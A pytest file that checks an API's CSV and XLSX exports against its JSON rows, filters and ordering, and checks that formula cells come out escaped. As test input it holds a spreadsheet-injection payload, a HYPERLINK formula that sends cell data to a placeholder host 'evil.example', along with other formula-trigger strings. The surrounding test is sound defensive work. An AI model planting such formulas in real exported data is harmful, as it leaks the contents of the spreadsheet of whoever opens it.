"""CSV and XLSX renderings parse back to the JSON rows, follow filters and ordering, and are
inert in a spreadsheet."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from programs.api import urls as api_urls
from programs.api.renderers import cell_text
from tests import factories
from tests.api.resources import own_records

LISTS = [
    pytest.param(str(pattern.pattern).rstrip("$").lstrip("^"), id=pattern.name)
    for pattern in api_urls.router.urls
    # Saved what-if drafts and subscriptions export their page's table, not their JSON rows
    # (tests/dashboards/test_whatif_downloads.py, tests/dashboards/test_following_downloads.py).
    if pattern.name.endswith("-list")
    and pattern.name not in ("whatif-draft-list", "subscription-list")
]


def json_rows(api, url: str) -> list[dict]:
    rows = []
    page = api.get(url, {"page_size": 2})
    while True:
        assert page.status_code == 200
        rows.extend(page.json()["results"])
        if not page.json()["next"]:
            return rows
        page = api.get(page.json()["next"])


def csv_rows(api, url: str, params: dict) -> list[dict]:
    response = api.get(url, {**params, "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(api, url: str, params: dict) -> list[dict]:
    response = api.get(url, {**params, "format": "xlsx"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def as_text(value) -> str:
    """A JSON value as the text a CSV cell holds (before formula escaping, none here)."""
    return cell_text(value)


def same_number_or_text(cell, value) -> bool:
    if isinstance(cell, int | float | Decimal) and not isinstance(cell, bool):
        return Decimal(str(cell)) == Decimal(str(value))
    if isinstance(cell, bool):
        return cell is value
    return (cell or "") == as_text(value)


@pytest.mark.parametrize("path", LISTS)
def test_csv_and_xlsx_hold_the_json_rows(path, world, api, analyst_user):
    own_records(analyst_user)
    url = f"/api/v1/{path}"
    expected = json_rows(api, url)
    assert expected, "the world has rows for every list"
    from_csv = csv_rows(api, url, {})
    assert from_csv == [{k: as_text(v) for k, v in row.items()} for row in expected]
    from_xlsx = xlsx_rows(api, url, {})
    assert len(from_xlsx) == len(expected)
    for row, json_row in zip(from_xlsx, expected, strict=True):
        assert list(row) == list(json_row)
        for column, value in json_row.items():
            assert same_number_or_text(row[column], value), (column, row[column], value)


def test_exports_follow_filters_and_ordering(world, api):
    gcap = world.programme
    for code in ("JPN", "ITA"):
        factories.ContributionFactory(programme=gcap, nation=world.nations[code])
    params = {"programme": "GCAP", "nation": "JPN", "ordering": "-period_start"}
    expected = api.get("/api/v1/contributions/", params).json()["results"]
    assert [row["nation"] for row in expected] == ["JPN"]
    rows = csv_rows(api, "/api/v1/contributions/", params)
    assert [row["id"] for row in rows] == [str(row["id"]) for row in expected]
    params = {"ordering": "-amount,period_start"}
    expected = [row["id"] for row in api.get("/api/v1/contributions/", params).json()["results"]]
    assert [int(row["id"]) for row in csv_rows(api, "/api/v1/contributions/", params)] == expected


def test_csv_export_is_every_row_not_one_page(world, api):
    for _ in range(4):
        factories.NationFactory()
    assert len(csv_rows(api, "/api/v1/nations/", {"page_size": 2})) == 8


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "dangerous",
    # Spreadsheets skip leading spaces and line breaks before a formula.
    [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", " =1+1", "\n=1+1", "  \n @SUM(A1)"],
)
def test_formula_cells_come_out_inert(dangerous, world, api):
    factories.OrganisationFactory(name=dangerous, nation=world.nations["GBR"])
    rows = csv_rows(api, "/api/v1/organisations/", {"ordering": "name"})
    names = [row["name"] for row in rows]
    assert "'" + dangerous in names
    assert dangerous not in names
    response = api.get("/api/v1/organisations/", {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    escaped = [cell for cell in cells if cell.value.startswith("'")]
    assert len(escaped) == 1
    assert escaped[0].data_type == "s"
    # XLSX stores a carriage return as a line feed; the escape is what matters.
    assert escaped[0].value == "'" + dangerous.replace("\r", "\n")
    assert not [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_plain_negative_numbers_are_not_escaped(world, api):
    factories.OrganisationFactory(name="-12.5", nation=world.nations["GBR"])
    assert "-12.5" in [row["name"] for row in csv_rows(api, "/api/v1/organisations/", {})]


def test_errors_are_json_even_when_csv_was_asked(world, viewer_api):
    response = viewer_api.post("/api/v1/nations/?format=csv", {}, format="json")
    assert response.status_code == 403
    assert response["Content-Type"] == "application/json"


def test_detail_renders_as_one_csv_row(world, api):
    response = api.get("/api/v1/programmes/GCAP/", {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row["code"] for row in rows] == ["GCAP"]
